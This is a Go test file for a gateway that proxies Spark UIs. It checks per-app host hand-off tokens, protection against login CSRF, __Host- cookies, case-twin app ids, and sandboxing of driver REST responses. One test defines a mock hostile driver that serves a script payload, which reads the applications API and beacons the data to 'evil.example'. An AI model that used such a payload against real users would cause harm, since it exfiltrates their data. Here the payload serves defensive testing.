package proxy

import (
	"context"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sparkgate/sparkgate/proxy/discovery"
)

// appHostHarness is the usual harness with per-app origins under
// apps.test, the main origin being the test server's URL.
func appHostHarness(t *testing.T) *harness {
	t.Helper()
	return newHarness(t, func(o *Options) {
		o.Config.AppDomain = "apps.test"
		o.PublicURL = "http://gw.test:8080"
	})
}

// onHost sends a request to the gateway with the given Host header and
// cookies.
func (h *harness) onHost(t *testing.T, host, path string, cookies ...*http.Cookie) *http.Response {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, h.gw.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	for _, c := range cookies {
		req.AddCookie(c)
	}
	resp, err := h.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp
}

// handOff is the browser's way from a main-origin page of an app to the
// app's host, hop by hop: main → the app host for a binder → main for a
// token bound to it → the app host, which takes it. It returns the token's
// path on the app host, the binder cookie and the app host's answer to the
// token.
func (h *harness) handOff(t *testing.T, mainHost, appHost, path string, session *http.Cookie) (tokenPath string, binder *http.Cookie, resp *http.Response) {
	t.Helper()
	tokenPath, binder = h.handOffToken(t, mainHost, appHost, path, session)
	return tokenPath, binder, h.onHost(t, appHost, tokenPath, binder)
}

// handOffToken is handOff short of presenting the token.
func (h *harness) handOffToken(t *testing.T, mainHost, appHost, path string, session *http.Cookie) (tokenPath string, binder *http.Cookie) {
	t.Helper()
	var resp *http.Response
	scheme := "http://"
	if strings.HasSuffix(mainHost, ":8443") {
		scheme = "https://"
	}
	resp = h.onHost(t, mainHost, path, session)
	loc := resp.Header.Get("Location")
	if resp.StatusCode != http.StatusFound || !strings.HasPrefix(loc, scheme+appHost+handoffPath+"?p=") {
		t.Fatalf("main %s = %d, Location %q; want 302 to %s%s%s?p=…", path, resp.StatusCode, loc, scheme, appHost, handoffPath)
	}
	resp = h.onHost(t, appHost, strings.TrimPrefix(loc, scheme+appHost))
	for _, c := range resp.Cookies() {
		if strings.HasSuffix(c.Name, "sparkgate_bind") {
			binder = c
		}
	}
	loc = resp.Header.Get("Location")
	if resp.StatusCode != http.StatusFound || binder == nil || !strings.HasPrefix(loc, scheme+mainHost+"/app/") {
		t.Fatalf("app host's hand-off start = %d, Location %q, binder %v; want 302 to the main origin with a binder", resp.StatusCode, loc, binder)
	}
	resp = h.onHost(t, mainHost, strings.TrimPrefix(loc, scheme+mainHost), session)
	loc = resp.Header.Get("Location")
	if resp.StatusCode != http.StatusFound || !strings.HasPrefix(loc, scheme+appHost+handoffPath+"?t=") {
		t.Fatalf("main origin's token = %d, Location %q; want 302 to %s%s%s?t=…", resp.StatusCode, loc, scheme, appHost, handoffPath)
	}
	return strings.TrimPrefix(loc, scheme+appHost), &http.Cookie{Name: binder.Name, Value: binder.Value}
}

func TestAppHostHandOff(t *testing.T) {
	t.Parallel()
	h := appHostHarness(t)
	alice := &http.Cookie{Name: sessionName, Value: "alice"}
	appHost := appLive + ".apps.test:8080"

	// The main origin hands a signed-in viewer over to the app's host.
	handoff, binder, resp := h.handOff(t, "gw.test:8080", appHost, "/app/"+appLive+"/jobs/?x=1", alice)
	if n := len(h.drv.requests()); n != 0 {
		t.Fatalf("the main origin proxied %d requests; want none with app_domain", n)
	}

	// The app's host takes the token once, with the binder it gave this
	// browser, sets a host-only cookie, drops the binder and goes on to
	// the page asked for.
	var app *http.Cookie
	binderDropped := false
	for _, c := range resp.Cookies() {
		switch c.Name {
		case appCookie:
			app = c
		case bindCookie:
			binderDropped = c.MaxAge < 0
		}
	}
	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/jobs/?x=1" || app == nil {
		t.Fatalf("hand-off = %d, Location %q, cookie %v; want 302 to /jobs/?x=1 with %s", resp.StatusCode, resp.Header.Get("Location"), app, appCookie)
	}
	if !binderDropped {
		t.Errorf("the binder cookie outlives the hand-off: %v", resp.Header.Values("Set-Cookie"))
	}
	for _, sc := range resp.Header.Values("Set-Cookie") {
		if strings.Contains(strings.ToLower(sc), "domain=") || !strings.Contains(sc, "HttpOnly") {
			t.Errorf("cookie %q; want host-only (no Domain) and HttpOnly", sc)
		}
	}
	if resp := h.onHost(t, appHost, handoff, binder); resp.StatusCode != http.StatusForbidden {
		t.Errorf("hand-off token used twice = %d; want 403", resp.StatusCode)
	}
	appC := &http.Cookie{Name: appCookie, Value: app.Value}

	// The app's pages are served at the host's root, without a prefix.
	resp = h.onHost(t, appHost, "/jobs/", appC)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("app host /jobs/ = %d; want 200", resp.StatusCode)
	}
	got := h.drv.last(t)
	if got.Path != "/jobs/" || got.Header.Get("X-Forwarded-Context") != "" || got.Header.Get("Cookie") != "" {
		t.Errorf("driver got %s with X-Forwarded-Context %q, Cookie %q; want /jobs/, none, none", got.Path, got.Header.Get("X-Forwarded-Context"), got.Header.Get("Cookie"))
	}
	// Spark's redirect stays on the app's host.
	resp = h.onHost(t, appHost, "/", appC)
	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/jobs/" {
		t.Errorf("app host / = %d, Location %q; want 302 to /jobs/", resp.StatusCode, resp.Header.Get("Location"))
	}

	// Nothing else is honoured on an app's host: no cookie, a forged
	// one, another app's cookie, the main origin's session; each goes
	// back to the main origin, which signs in and hands off again.
	deniedHost := appDenied + ".apps.test:8080"
	for _, c := range []struct {
		name   string
		host   string
		cookie *http.Cookie
	}{
		{"no cookie", appHost, nil},
		{"forged cookie", appHost, &http.Cookie{Name: appCookie, Value: "eyJhIjoiYXBwIn0.AAAA"}},
		{"the main origin's session", appHost, alice},
		{"another app's cookie", deniedHost, appC},
	} {
		var cs []*http.Cookie
		if c.cookie != nil {
			cs = append(cs, c.cookie)
		}
		n := len(h.drv.requests())
		resp := h.onHost(t, c.host, "/jobs/", cs...)
		id := strings.TrimSuffix(c.host, ".apps.test:8080")
		if want := "http://gw.test:8080/app/" + id + "/jobs/"; resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != want {
			t.Errorf("%s: app host /jobs/ = %d, Location %q; want 302 to %s", c.name, resp.StatusCode, resp.Header.Get("Location"), want)
		}
		if len(h.drv.requests()) != n {
			t.Errorf("%s: the driver was asked", c.name)
		}
	}
	// A token for one app does not open another's host.
	tok, bnd, _ := h.handOff(t, "gw.test:8080", appHost, "/app/"+appLive+"/", alice)
	if resp := h.onHost(t, deniedHost, tok, bnd); resp.StatusCode != http.StatusForbidden {
		t.Errorf("app A's token on app B's host = %d; want 403", resp.StatusCode)
	}
	// A viewer the app's ACLs leave out gets no token (and the 404 of an
	// unknown app).
	resp = h.onHost(t, "gw.test:8080", "/app/"+appDenied+"/", alice)
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("main /app/%s/ for alice = %d; want 404", appDenied, resp.StatusCode)
	}
	// A finished app's host sends the browser to the main origin, whose
	// bookmark leads to the History Server's view.
	resp = h.onHost(t, appHistory+".apps.test:8080", "/jobs/", appC)
	if want := "http://gw.test:8080/app/" + appHistory + "/jobs/"; resp.Header.Get("Location") != want {
		t.Errorf("finished app's host = %d, Location %q; want %s", resp.StatusCode, resp.Header.Get("Location"), want)
	}
	// The gateway pages' "sign out" link on an app's host drops its
	// cookie and signs out on the main origin.
	resp = h.onHost(t, appHost, "/oauth2/logout", appC)
	if sc := resp.Header.Get("Set-Cookie"); resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "http://gw.test:8080/oauth2/logout" ||
		!strings.HasPrefix(sc, appCookie+"=;") || !strings.Contains(sc, "Max-Age=0") {
		t.Errorf("app host /oauth2/logout = %d, Location %q, Set-Cookie %q; want 303 to the main origin's sign-out, the cookie deleted", resp.StatusCode, resp.Header.Get("Location"), sc)
	}
	// The main origin keeps the index.
	if resp := h.onHost(t, "gw.test:8080", "/", alice); resp.StatusCode != http.StatusOK {
		t.Errorf("main / = %d; want 200", resp.StatusCode)
	}
}

// TestHandOffBoundToBrowser: a hand-off token works only in the browser
// whose binder it carries. Sent to another browser as a link (login CSRF:
// signing the victim in as the sender), it does not sign that browser in;
// the browser is handed over afresh, as whoever it is signed in as on the
// main origin, and a browser that keeps no binder gets an error page
// rather than a loop. The refused attempt does not spend the token.
func TestHandOffBoundToBrowser(t *testing.T) {
	t.Parallel()
	h := appHostHarness(t)
	alice := &http.Cookie{Name: sessionName, Value: "alice"}
	appHost := appLive + ".apps.test:8080"
	tok, aliceBinder := h.handOffToken(t, "gw.test:8080", appHost, "/app/"+appLive+"/jobs/", alice)

	appCookieOf := func(resp *http.Response) *http.Cookie {
		for _, c := range resp.Cookies() {
			if c.Name == appCookie {
				return c
			}
		}
		return nil
	}
	var restart string
	var victimBinder *http.Cookie
	for _, c := range []struct {
		name    string
		cookies []*http.Cookie
	}{
		{"no binder", nil},
		{"its own binder", []*http.Cookie{{Name: bindCookie, Value: "the-victims-own-binder-of-an-earlier-hand-off"}}},
	} {
		resp := h.onHost(t, appHost, tok, c.cookies...)
		loc := resp.Header.Get("Location")
		if app := appCookieOf(resp); resp.StatusCode != http.StatusFound || app != nil ||
			!strings.HasPrefix(loc, "http://gw.test:8080/app/"+appLive+handoffPath+"?b=") || !strings.HasSuffix(loc, "&r=1") {
			t.Fatalf("%s: another browser's token = %d, Location %q, app cookie %v; want a fresh hand-off (302 to the main origin, r=1), no cookie", c.name, resp.StatusCode, loc, app)
		}
		restart = strings.TrimPrefix(loc, "http://gw.test:8080")
		for _, ck := range resp.Cookies() {
			if ck.Name == bindCookie {
				victimBinder = &http.Cookie{Name: ck.Name, Value: ck.Value}
			}
		}
	}
	if victimBinder == nil {
		t.Fatal("the fresh hand-off set no binder")
	}
	// The sender's token is still good in the sender's browser.
	if resp := h.onHost(t, appHost, tok, aliceBinder); resp.StatusCode != http.StatusFound || appCookieOf(resp) == nil {
		t.Errorf("the token in its own browser after another refused it = %d; want 302 with the app cookie", resp.StatusCode)
	}
	// The fresh hand-off, as the victim (here signed in as alice too):
	// a token marked as the second try, refused with an error page in a
	// browser that kept no binder, taken with the binder it was given.
	resp := h.onHost(t, "gw.test:8080", restart, alice)
	tok2 := strings.TrimPrefix(resp.Header.Get("Location"), "http://"+appHost)
	if resp.StatusCode != http.StatusFound || !strings.HasPrefix(tok2, handoffPath+"?t=") {
		t.Fatalf("fresh hand-off on the main origin = %d, Location %q; want a token", resp.StatusCode, resp.Header.Get("Location"))
	}
	if resp := h.onHost(t, appHost, tok2); resp.StatusCode != http.StatusForbidden {
		t.Errorf("second try without a binder = %d; want 403, not another round", resp.StatusCode)
	}
	if resp := h.onHost(t, appHost, tok2, victimBinder); resp.StatusCode != http.StatusFound || appCookieOf(resp) == nil || resp.Header.Get("Location") != "/jobs/" {
		t.Errorf("second try with its binder = %d, Location %q; want 302 to /jobs/ with the app cookie", resp.StatusCode, resp.Header.Get("Location"))
	}

	// The main origin's end of the hand-off judges the page it names as
	// that page: a malformed request is refused, an app the user may not
	// view gets the 404 of an unknown app (and no token), another host's
	// path is refused.
	hash := strings.Repeat("A", bindHashLen)
	for _, c := range []struct {
		name, path string
		want       int
	}{
		{"no binder hash", "/app/" + appLive + handoffPath + "?p=%2Fjobs%2F", http.StatusBadRequest},
		{"a path to another host", "/app/" + appLive + handoffPath + "?b=" + hash + "&p=%2F%2Fevil.test%2F", http.StatusBadRequest},
		{"the hand-off itself", "/app/" + appLive + handoffPath + "?b=" + hash + "&p=%2F_%2Fhandoff", http.StatusBadRequest},
		{"an app alice may not view", "/app/" + appDenied + handoffPath + "?b=" + hash + "&p=%2Fjobs%2F", http.StatusNotFound},
	} {
		if resp := h.onHost(t, "gw.test:8080", c.path, alice); resp.StatusCode != c.want {
			t.Errorf("%s: main %s = %d, Location %q; want %d", c.name, c.path, resp.StatusCode, resp.Header.Get("Location"), c.want)
		}
	}
}

func TestAppDomainConfig(t *testing.T) {
	t.Parallel()
	for _, d := range []string{"apps.example.com", "apps.test", "a-1.b"} {
		c := DefaultConfig()
		c.AppDomain = d
		if errs := c.Validate(); len(errs) != 0 {
			t.Errorf("app_domain %q: %v; want valid", d, errs)
		}
	}
	for _, d := range []string{"apps", "Apps.example.com", "https://apps.example.com", "apps.example.com:443", ".apps.example.com", "apps..com", "-a.b", "*.apps.example.com"} {
		c := DefaultConfig()
		c.AppDomain = d
		if errs := c.Validate(); len(errs) != 1 || !strings.Contains(errs[0].Error(), "proxy.app_domain") {
			t.Errorf("app_domain %q: %v; want one proxy.app_domain error", d, errs)
		}
	}
}

// appHostSignIn hands alice's main-origin session over to appHost and
// returns the app host's cookie (named name) the hand-off set.
func appHostSignIn(t *testing.T, h *harness, mainHost, appHost, name string) *http.Cookie {
	t.Helper()
	_, _, resp := h.handOff(t, mainHost, appHost, "/app/"+appLive+"/", &http.Cookie{Name: sessionName, Value: "alice"})
	for _, ck := range resp.Cookies() {
		if ck.Name == name {
			return &http.Cookie{Name: ck.Name, Value: ck.Value}
		}
	}
	t.Fatalf("no %s cookie after the hand-off", name)
	return nil
}

// appHostDo returns a function that sends a request to appHost (a form
// when body is not empty) with cookies, and returns the answer and its
// body.
func appHostDo(t *testing.T, h *harness, appHost string) func(method, path, body string, cookies ...*http.Cookie) (*http.Response, string) {
	return func(method, path, body string, cookies ...*http.Cookie) (*http.Response, string) {
		t.Helper()
		req, _ := http.NewRequest(method, h.gw.URL+path, strings.NewReader(body))
		req.Host = appHost
		if body != "" {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		for _, ck := range cookies {
			req.AddCookie(ck)
		}
		resp, err := h.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
}

// TestAppHostKillConfirm: with per-app origins and proxy.kill modify-acl,
// the app's pages link kill controls to the confirmation page on the
// app's own host, and the confirmation works there. Over https its cookie
// is __Host-sparkgate_csrf (Secure, Path=/, no Domain), which another
// app's host cannot plant: one it plants under the plain name, for the
// whole app domain, does not make the confirmation fail.
func TestAppHostKillConfirm(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		public, port, appCookie, csrfCookie string
	}{
		{"http://gw.test:8080", "8080", appCookie, csrfCookie},
		{"https://gw.test:8443", "8443", hostAppCookie, hostCSRFCookie},
	} {
		t.Run(c.public, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t, func(o *Options) {
				o.Config.AppDomain = "apps.test"
				o.Config.Kill = KillModifyACL
				o.PublicURL = c.public
			})
			appHost := appLive + ".apps.test:" + c.port
			appC := appHostSignIn(t, h, "gw.test:"+c.port, appHost, c.appCookie)
			do := appHostDo(t, h, appHost)
			_, page := do(http.MethodGet, "/jobs/", "", appC)
			if !strings.Contains(page, `<a href="/jobs/job/kill/?id=7" class="kill-link">(kill)</a>`) {
				t.Fatalf("jobs page on the app host lacks a confirmation link at the host's root:\n%s", page)
			}
			resp, body := do(http.MethodGet, "/jobs/job/kill/?id=7", "", appC)
			m := csrfInput.FindStringSubmatch(body)
			var csrf *http.Cookie
			for _, ck := range resp.Cookies() {
				if ck.Name == c.csrfCookie {
					if ck.Path != "/" || ck.Domain != "" || (c.csrfCookie == hostCSRFCookie && !ck.Secure) {
						t.Errorf("confirmation cookie %s: Path %q, Domain %q, Secure %v", ck.Name, ck.Path, ck.Domain, ck.Secure)
					}
					csrf = &http.Cookie{Name: ck.Name, Value: ck.Value}
				}
			}
			if resp.StatusCode != http.StatusOK || m == nil || csrf == nil {
				t.Fatalf("confirmation page on the app host = %d (token %v, cookie %s %v); want 200 with both", resp.StatusCode, m != nil, c.csrfCookie, csrf)
			}
			// The gateway's pages on the app's host name no viewer: the driver's
			// script shares the origin and could read who views its app.
			_, bad := do(http.MethodGet, "/jobs/job/kill/?id=x", "", appC)
			for _, p := range []string{body, bad} {
				if strings.Contains(p, "signed in as") || strings.Contains(p, "alice") {
					t.Errorf("a gateway page on the app host names its viewer:\n%s", p)
				}
			}
			cookies := []*http.Cookie{appC, csrf}
			if c.csrfCookie == hostCSRFCookie {
				// What another app's host can plant for every app host,
				// sent first, as a browser may.
				cookies = []*http.Cookie{appC, {Name: csrfCookie, Value: "planted"}, csrf}
			}
			resp, _ = do(http.MethodPost, "/jobs/job/kill/?id=7", "csrf="+url.QueryEscape(html.UnescapeString(m[1])), cookies...)
			if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/jobs/" {
				t.Fatalf("confirmed kill on the app host = %d, Location %q; want 303 to /jobs/", resp.StatusCode, resp.Header.Get("Location"))
			}
			if got := h.drv.last(t); got.Path != "/jobs/job/kill/" || got.RawQuery != "id=7" {
				t.Errorf("driver got %s?%s; want the kill of job 7", got.Path, got.RawQuery)
			}
		})
	}
}

// TestAppHostCookieHostPrefixed: on https the app host's cookie is
// __Host-sparkgate_app (Secure, Path=/, no Domain), which a browser takes
// only from that very host: another app's host cannot plant one for it,
// and one named _sparkgate_app, which it could plant for all the app
// hosts, is not read.
func TestAppHostCookieHostPrefixed(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) {
		o.Config.AppDomain = "apps.test"
		o.PublicURL = "https://gw.test:8443"
	})
	alice := &http.Cookie{Name: sessionName, Value: "alice"}
	appHost := appLive + ".apps.test:8443"
	_, binder, resp := h.handOff(t, "gw.test:8443", appHost, "/app/"+appLive+"/jobs/", alice)
	if binder.Name != "__Host-sparkgate_bind" {
		t.Errorf("binder cookie %s; want __Host-sparkgate_bind", binder.Name)
	}
	var app *http.Cookie
	for _, c := range resp.Cookies() {
		if c.MaxAge > 0 {
			app = c
		}
	}
	if app == nil || app.Name != "__Host-sparkgate_app" || !app.Secure || app.Path != "/" || app.Domain != "" {
		t.Fatalf("hand-off cookie = %v; want __Host-sparkgate_app, Secure, Path=/, no Domain", app)
	}
	if resp := h.onHost(t, appHost, "/jobs/", app); resp.StatusCode != http.StatusOK {
		t.Errorf("app host with %s = %d; want 200", app.Name, resp.StatusCode)
	}
	if resp := h.onHost(t, appHost, "/jobs/", &http.Cookie{Name: appCookie, Value: app.Value}); resp.StatusCode != http.StatusFound {
		t.Errorf("app host with %s = %d; want 302 to the main origin (not read)", appCookie, resp.StatusCode)
	}
}

// TestHandOffOnceAcrossReplicas: two replicas with one key and a shared
// store (Options.ClaimOnce; auth's TestClaimOnceAcrossReplicas proves it
// on Redis): a hand-off token taken on one replica is refused by the
// other, and the claim lasts as long as the token. Without the store
// (the control) the other replica takes it again, as documented.
func TestHandOffOnceAcrossReplicas(t *testing.T) {
	t.Parallel()
	key := []byte("0123456789abcdef0123456789abcdef")
	type claim struct {
		key string
		ttl time.Duration
	}
	for _, shared := range []bool{true, false} {
		var mu sync.Mutex
		claims := map[string]bool{}
		var asked []claim
		replica := func() *harness {
			return newHarness(t, func(o *Options) {
				o.Config.AppDomain = "apps.test"
				o.PublicURL = "http://gw.test:8080"
				o.CSRFKey = key
				if shared {
					o.ClaimOnce = func(_ context.Context, k string, ttl time.Duration) bool {
						mu.Lock()
						defer mu.Unlock()
						asked = append(asked, claim{k, ttl})
						first := !claims[k]
						claims[k] = true
						return first
					}
				}
			})
		}
		a, b := replica(), replica()
		alice := &http.Cookie{Name: sessionName, Value: "alice"}
		appHost := appLive + ".apps.test:8080"
		handoff, binder := a.handOffToken(t, "gw.test:8080", appHost, "/app/"+appLive+"/jobs/", alice)
		if resp := b.onHost(t, appHost, handoff, binder); resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/jobs/" {
			t.Fatalf("shared %t: hand-off on replica b = %d, Location %q; want 302 to /jobs/", shared, resp.StatusCode, resp.Header.Get("Location"))
		}
		want := http.StatusForbidden
		if !shared {
			want = http.StatusFound
		}
		if resp := a.onHost(t, appHost, handoff, binder); resp.StatusCode != want {
			t.Errorf("shared %t: the same hand-off on replica a = %d; want %d", shared, resp.StatusCode, want)
		}
		if !shared {
			continue
		}
		if len(asked) != 2 || !strings.HasPrefix(asked[0].key, "handoff:") || asked[0].key != asked[1].key ||
			asked[0].ttl <= handoffTTL-time.Second || asked[0].ttl > handoffTTL+time.Second {
			t.Errorf("claims asked = %+v; want the token's nonce twice, each for about %s", asked, handoffTTL)
		}
	}
}

// TestAppHostIDsInLowerCaseOnly: app ids are case-sensitive, host names
// are not. The host of alice's "App-…" would be the host of "app-…",
// mallory's app, which she opened to alice: the main origin must not hand
// alice over there for her own app (a bookmark, the index's link), where
// she would land, signed in, on mallory's driver under her app's name.
// The lower-case twin is still served on its host.
func TestAppHostIDsInLowerCaseOnly(t *testing.T) {
	t.Parallel()
	const victim, twin = "App-20240101000000-0009", "app-20240101000000-0009"
	h := appHostHarness(t)
	mal := newBackend(t)
	start := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	apps := append([]*discovery.App(nil), h.reg.Load().Apps()...)
	apps = append(apps,
		&discovery.App{ID: victim, Name: "etl", User: "alice", StartTime: start, State: discovery.Running, UIURL: h.drv.url(), Source: "kubernetes:spark/etl"},
		&discovery.App{ID: twin, Name: "etl", User: "mallory", StartTime: start, State: discovery.Running, UIURL: mal.url(), Source: "probe:127.0.0.1:4050",
			ACLProps: map[string]string{"spark.ui.view.acls": "alice"}})
	h.reg.Store(discovery.NewSnapshot(apps))
	alice := &http.Cookie{Name: sessionName, Value: "alice"}

	// Both steps of the main origin's hand-off refuse the id.
	for _, p := range []string{
		"/app/" + victim + "/jobs/",
		"/proxy/" + victim + "/jobs/",
		"/app/" + victim + handoffPath + "?b=" + bindHash("binder") + "&p=%2Fjobs%2F",
	} {
		resp := h.onHost(t, "gw.test:8080", p, alice)
		if resp.StatusCode != http.StatusNotFound || resp.Header.Get("Location") != "" {
			t.Errorf("main %s = %d, Location %q; want 404 and no hand-off (its host is %s's)", p, resp.StatusCode, resp.Header.Get("Location"), twin)
		}
	}
	// The twin, in lower case, is handed over to its host as before.
	_, _, resp := h.handOff(t, "gw.test:8080", twin+".apps.test:8080", "/app/"+twin+"/jobs/", alice)
	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/jobs/" {
		t.Errorf("hand-off of %s = %d, Location %q; want 302 to /jobs/", twin, resp.StatusCode, resp.Header.Get("Location"))
	}
	if n := len(h.drv.requests()) + len(mal.requests()); n != 0 {
		t.Errorf("the drivers got %d requests; want none", n)
	}
}

// TestDriverRESTRunsNoScript: with per-app origins, a driver's pages run
// on its own host, but the REST API stays on the main origin. A driver
// (any user can start one) that answers its REST paths with HTML, SVG or
// XML must not run a script there, where it could read the index and
// every app the viewer may see: the answer comes in a sandbox, unsniffed.
// JSON passes as it came.
func TestDriverRESTRunsNoScript(t *testing.T) {
	t.Parallel()
	h := appHostHarness(t)
	const script = `<script>fetch("/api/v1/applications").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example/",t))</script>`
	drv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch path.Base(r.URL.Path) {
		case "svg":
			w.Header().Set("Content-Type", "image/svg+xml")
			_, _ = io.WriteString(w, `<svg xmlns="http://www.w3.org/2000/svg">`+script+`</svg>`)
		case "xml":
			w.Header().Set("Content-Type", "text/xml")
			_, _ = io.WriteString(w, `<html xmlns="http://www.w3.org/1999/xhtml">`+script+`</html>`)
		case "jobs":
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `[{"jobId":1}]`)
		default:
			w.Header().Set("Content-Type", "text/html")
			w.Header().Set("Content-Security-Policy", "script-src *")
			_, _ = io.WriteString(w, `<html><body>`+script+`</body></html>`)
		}
	}))
	t.Cleanup(drv.Close)
	u, _ := url.Parse(drv.URL)
	const bait = "app-20240101000000-0777"
	apps := append([]*discovery.App(nil), h.reg.Load().Apps()...)
	apps = append(apps, &discovery.App{ID: bait, Name: "bait", User: "mallory", StartTime: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC),
		State: discovery.Running, UIURL: u, Source: "probe:127.0.0.1:4050",
		ACLProps: map[string]string{"spark.ui.view.acls": "bob"}})
	h.reg.Store(discovery.NewSnapshot(apps))

	for _, rest := range []string{"/page", "/svg", "/xml", "/jobs"} {
		p := "/api/v1/applications/" + bait + rest
		// bob follows mallory's link in his browser, on the main origin.
		resp, body := h.do(t, http.MethodGet, p, "bob", http.Header{"Accept": {"text/html,application/xhtml+xml,*/*;q=0.8"}})
		csp := resp.Header.Values("Content-Security-Policy")
		if resp.StatusCode != http.StatusOK || len(csp) != 1 || csp[0] != restCSP || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("main origin GET %s = %d, Content-Type %q, CSP %q, X-Content-Type-Options %q; want 200 in the sandbox %q, nosniff",
				p, resp.StatusCode, resp.Header.Get("Content-Type"), csp, resp.Header.Get("X-Content-Type-Options"), restCSP)
		}
		if rest == "/jobs" && (resp.Header.Get("Content-Type") != "application/json" || body != `[{"jobId":1}]`) {
			t.Errorf("GET %s = %q, %q; want the driver's JSON as it came", p, resp.Header.Get("Content-Type"), body)
		}
	}
}

// TestAppHostKillConfirmProxyBase: on an app's host over https, a kill
// link under /proxy/<id>/ (a driver with spark.ui.proxyBase) is confirmed
// too. A browser takes a "__Host-" cookie only with Path=/, Secure and no
// Domain; one set for Path=/proxy/<id>/ is dropped, and the confirmation
// then always fails (403, no kill sent).
func TestAppHostKillConfirmProxyBase(t *testing.T) {
	t.Parallel()
	h := newHarness(t, func(o *Options) {
		o.Config.AppDomain = "apps.test"
		o.Config.Kill = KillModifyACL
		o.PublicURL = "https://gw.test:8443"
	})
	appHost := appLive + ".apps.test:8443"
	appC := appHostSignIn(t, h, "gw.test:8443", appHost, hostAppCookie)
	do := appHostDo(t, h, appHost)
	kill := "/proxy/" + appLive + "/jobs/job/kill/?id=7"
	resp, body := do(http.MethodGet, kill, "", appC)
	m := csrfInput.FindStringSubmatch(body)
	if resp.StatusCode != http.StatusOK || m == nil {
		t.Fatalf("confirmation page %s on the app host = %d (token %v); want 200 with a token", kill, resp.StatusCode, m != nil)
	}
	// What a browser keeps of the answer's cookies.
	var csrf *http.Cookie
	for _, ck := range resp.Cookies() {
		if strings.HasPrefix(ck.Name, "__Host-") && (ck.Path != "/" || !ck.Secure || ck.Domain != "") {
			t.Errorf("cookie %s: Path %q, Secure %v, Domain %q: a browser drops a __Host- cookie unless Path=/, Secure, no Domain",
				ck.Name, ck.Path, ck.Secure, ck.Domain)
			continue
		}
		if ck.Name == hostCSRFCookie {
			csrf = &http.Cookie{Name: ck.Name, Value: ck.Value}
		}
	}
	if csrf == nil {
		t.Fatal("the browser keeps no confirmation cookie")
	}
	resp, _ = do(http.MethodPost, kill, "csrf="+url.QueryEscape(html.UnescapeString(m[1])), appC, csrf)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("confirmed kill = %d; want 303", resp.StatusCode)
	}
	for _, ck := range resp.Cookies() {
		if ck.Name == hostCSRFCookie && (ck.Path != "/" || !ck.Secure || ck.MaxAge >= 0) {
			t.Errorf("deletion of %s: Path %q, Secure %v, MaxAge %d; want Path=/, Secure, MaxAge<0", ck.Name, ck.Path, ck.Secure, ck.MaxAge)
		}
	}
	if got := h.drv.last(t); got.Path != "/jobs/job/kill/" || got.RawQuery != "id=7" {
		t.Errorf("driver got %s?%s; want the kill of job 7", got.Path, got.RawQuery)
	}
}
